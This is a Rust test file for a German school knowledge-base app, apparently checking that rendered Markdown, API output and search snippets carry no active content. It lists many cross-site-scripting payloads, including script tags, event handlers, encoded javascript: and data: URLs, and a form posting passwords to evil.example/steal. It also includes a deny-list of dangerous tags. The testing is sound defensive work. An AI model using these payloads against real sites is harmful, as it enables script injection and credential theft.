//! Rendering without active content: every known payload in Markdown is harmless HTML on
//! the article page, in the API and in search results; headings, tables and task lists
//! render.
use crate::common::{article_text, write_article, Backend, TestApp};
use rocket::http::Status;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">klick</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">klick</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">klick</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<style>body { display: none }</style>",
    "<form action=\"https://evil.example/steal\"><input name=pw><button>Senden</button></form>",
    "<a href=\"javas&#99;ript:alert(1)\">klick</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">klick</a>",
    "<<script>script>alert(1)<</script>/script>",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1)  )",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<input type=\"text\" onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<body onload=alert(1)>",
    "<p title=\"x\" onclick=\"alert(1)\">x</p>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
];

/// The raw tags of an HTML text (`<name ...>` and `</name>`), lowercased.
fn tags(html: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let after = &rest[start + 1..];
        if after.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/' || c == '!') {
            let end = after.find('>').map(|e| e + 1).unwrap_or(after.len());
            out.push(format!("<{}", &after[..end]).to_lowercase());
            rest = &after[end..];
        } else {
            rest = after;
        }
    }
    out
}

/// The tag's name: `<a href=...>` → "a".
fn tag_name(tag: &str) -> String {
    tag.trim_start_matches(['<', '/']).chars().take_while(|c| c.is_ascii_alphanumeric()).collect()
}

/// No active content in HTML meant to come from article authors: no script, style,
/// frames, plugins, SVG/MathML, forms; no event handler attribute; no javascript: or data:
/// URL (also entity-encoded); nothing pointing at evil.example.
pub(super) fn assert_safe(html: &str, context: &str) {
    for tag in tags(html) {
        let name = tag_name(&tag);
        assert!(
            ![
                "script", "style", "iframe", "object", "embed", "svg", "math", "form", "base", "meta", "link", "body",
                "frame", "frameset"
            ]
            .contains(&name.as_str()),
            "{context}: forbidden tag {tag}\n{html}"
        );
        let bytes = tag.as_bytes();
        for (i, _) in tag.match_indices("on") {
            let before = if i == 0 { b' ' } else { bytes[i - 1] };
            let word: String = tag[i..].chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
            let after = tag[i + word.len()..].trim_start();
            assert!(
                !(matches!(before, b' ' | b'\t' | b'\n' | b'/' | b'"' | b'\'')
                    && word.len() > 2
                    && after.starts_with('=')),
                "{context}: event handler attribute in {tag}\n{html}"
            );
        }
        for bad in ["javascript:", "javas", "data:", "&#", "evil.example", "style="] {
            assert!(!tag.contains(bad), "{context}: {bad} in {tag}\n{html}");
        }
        if name == "input" {
            assert!(tag.contains("type=\"checkbox\""), "{context}: only task-list checkboxes: {tag}");
        }
    }
}

#[test]
fn rendering_removes_every_active_payload() {
    for payload in PAYLOADS {
        for markdown in [
            payload.to_string(),
            format!("Text davor\n\n{payload}\n\nText danach"),
            format!("Ein Satz mit {payload} mittendrin."),
            format!("- Punkt {payload}\n- [ ] Aufgabe {payload}"),
            format!("| a | b |\n|---|---|\n| {payload} | x |"),
            format!("## Kopf {payload}\n\ntext"),
        ] {
            let rendered = staffel::kb::render::render(&markdown);
            assert_safe(&rendered.html, &format!("render({markdown:?})"));
            for entry in &rendered.toc {
                assert!(entry.id.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'), "{entry:?}");
            }
        }
    }
    // What is harmless survives.
    let ok = staffel::kb::render::render("[Hilfe](https://example.org/hilfe) und <mailto:it@schule.de>\n\n**fett**");
    assert!(ok.html.contains("href=\"https://example.org/hilfe\""), "{}", ok.html);
    assert!(ok.html.contains("rel=\"noopener noreferrer nofollow\""), "{}", ok.html);
    assert!(ok.html.contains("href=\"mailto:it@schule.de\""), "{}", ok.html);
    assert!(ok.html.contains("<strong>fett</strong>"));
    // Text that looks like markup stays text.
    let text = staffel::kb::render::render("Tippen Sie `<script>` nicht ein: 3 < 4 & 5 > 2");
    assert!(text.html.contains("<code>&lt;script&gt;</code>"), "{}", text.html);
    assert!(text.html.contains("3 &lt; 4 &amp; 5 &gt; 2"), "{}", text.html);
}

#[test]
fn headings_tables_and_task_lists_render() {
    let r = staffel::kb::render::render(
        "# Titel\n\n## Schritt 1: Drucker prüfen\n\n| Format | Wofür |\n|---|---|\n| PDF | Texte |\n\n- [x] erledigt\n- [ ] offen\n\n## Straße & Größe\n\n### Schritt 1: Drucker prüfen\n",
    );
    assert!(r.html.contains("<h2 id=\"kb-schritt-1-drucker-pruefen\">"), "{}", r.html);
    assert!(r.html.contains("<h3 id=\"kb-schritt-1-drucker-pruefen-1\">"), "{}", r.html);
    assert!(r.html.contains("<h2 id=\"kb-strasse-groesse\">"), "{}", r.html);
    assert!(r.html.contains("<table>") && r.html.contains("<th>Format</th>") && r.html.contains("<td>PDF</td>"));
    assert_eq!(r.html.matches("type=\"checkbox\"").count(), 2);
    assert_eq!(r.html.matches("checked").count(), 1);
    let toc: Vec<(u8, &str, &str)> = r.toc.iter().map(|e| (e.level, e.id.as_str(), e.text.as_str())).collect();
    assert_eq!(
        toc,
        vec![
            (1, "kb-titel", "Titel"),
            (2, "kb-schritt-1-drucker-pruefen", "Schritt 1: Drucker prüfen"),
            (2, "kb-strasse-groesse", "Straße & Größe"),
            (3, "kb-schritt-1-drucker-pruefen-1", "Schritt 1: Drucker prüfen"),
        ]
    );
}

const XSS_TITLE: &str = "Giftzwerg <script>alert('t')</script> & <img src=x onerror=alert(2)>";

fn xss_article() -> String {
    let front = format!(
        "title: \"{}\"\naudience: [pupil]\nservice: other\ntags: [\"<b>fett</b>\", \"<img src=x onerror=alert(3)>\", \"ok\"]",
        XSS_TITLE.replace('"', "\\\"")
    );
    let mut body = String::from(
        "## Übersicht\n\nGiftzwerg-Artikel mit Schadcode.\n\n## Zweiter Teil <img src=x onerror=alert(4)>\n\n",
    );
    for payload in PAYLOADS {
        body.push_str(&format!("Giftzwerg {payload}\n\n"));
    }
    body.push_str("## Dritter Teil\n\nEnde.\n");
    article_text(&front, &body)
}

/// The rendered Markdown on an article page (without the layout and the rating form).
pub(super) fn article_part(page: &str) -> &str {
    let start = page.find("<div class=\"markdown\">").expect("the article's text");
    let end = page[start..].find("<section id=\"rate\"").map(|e| start + e).expect("the rating form");
    &page[start..end]
}

/// A fresh app that has imported the article full of payloads, in the search index too.
async fn app_with_the_harmful_article(backend: &Backend) -> TestApp {
    let app = TestApp::new(backend).await;
    let dir = tempfile::tempdir().unwrap();
    write_article(dir.path(), "giftzwerg.md", &xss_article());
    let report = app.import_articles(dir.path()).await;
    assert_eq!(report.added, vec!["giftzwerg".to_string()], "{:?}", report.rejected);
    app.sync_search().await;
    app
}

both_dbs!(
    async fn the_article_page_shows_a_harmful_article_as_harmless_text(backend: Backend) {
        let app = app_with_the_harmful_article(&backend).await;
        let mut reader = app.browser();
        let page = reader.get("/kb/giftzwerg").await;
        assert_eq!(page.status, Status::Ok);
        let baseline = reader.get("/kb/wlan-verbinden-schueler").await;
        // The whole page has no more tags of the dangerous kinds than a harmless article's page.
        let count = |html: &str, what: &str| tags(html).iter().filter(|t| t.starts_with(what)).count();
        for what in ["<script", "<iframe", "<svg", "<style", "<form", "<object", "<embed", "<base", "<meta", "<link"] {
            assert_eq!(count(&page.body, what), count(&baseline.body, what), "{what} tags on the page");
        }
        assert_safe(article_part(&page.body), "/kb/giftzwerg");
        // Title and tags are text.
        assert!(!page.body.contains("<script>alert('t')"));
        assert!(!page.body.contains("<img src=x"));
        assert!(!page.body.contains("<b>fett"));
        assert!(page.body.contains(
            "Giftzwerg &lt;script&gt;alert(&#x27;t&#x27;)&lt;&#x2F;script&gt; &amp; &lt;img src=x onerror=alert(2)&gt;"
        ));
        assert!(page.body.contains("<li>&lt;b&gt;fett&lt;&#x2F;b&gt;</li>"), "tags shown escaped");
        assert!(page.body.contains("<li>&lt;img src=x onerror=alert(3)&gt;</li>"));
        // The table of contents and the heading carry no markup either.
        assert!(page.body.contains("href=\"#kb-zweiter-teil\""), "toc link");
        assert!(page.body.contains("<h2 id=\"kb-zweiter-teil\">"), "heading anchor");
    }
);

both_dbs!(
    async fn the_api_serves_a_harmful_article_sanitised_with_title_and_tags_as_data(backend: Backend) {
        let app = app_with_the_harmful_article(&backend).await;
        // The API: the rendered HTML is as clean; title and tags are data (JSON strings).
        let reply = app.api_get(None, "/api/v1/kb/articles/giftzwerg").await;
        assert_eq!(reply.status, Status::Ok);
        let json = reply.json();
        assert_safe(json["html"].as_str().unwrap(), "API html");
        assert_eq!(json["title"], XSS_TITLE);
        for entry in json["toc"].as_array().unwrap() {
            assert!(!entry["text"].as_str().unwrap().contains('<'), "{entry}");
        }
    }
);

both_dbs!(
    async fn search_shows_a_harmful_articles_title_escaped_and_its_snippet_clean(backend: Backend) {
        let app = app_with_the_harmful_article(&backend).await;
        let mut reader = app.browser();
        // In search results and suggestions the title is escaped, the snippet is clean.
        let results = reader.get("/faq?q=Giftzwerg").await;
        assert!(results.body.contains("href=\"/kb/giftzwerg\""), "found");
        assert!(!results.body.contains("<script>alert("));
        assert!(!results.body.contains("<img src=x"));
        assert!(results.body.contains("Giftzwerg &lt;script&gt;"));
        let reply = app.api_get(None, "/api/v1/kb/search?q=Giftzwerg").await;
        let snippet = reply.json()["hits"][0]["snippet"].as_str().unwrap().to_string();
        assert!(snippet.contains("<mark>"), "{snippet}");
        assert_safe(&snippet, "snippet");
    }
);
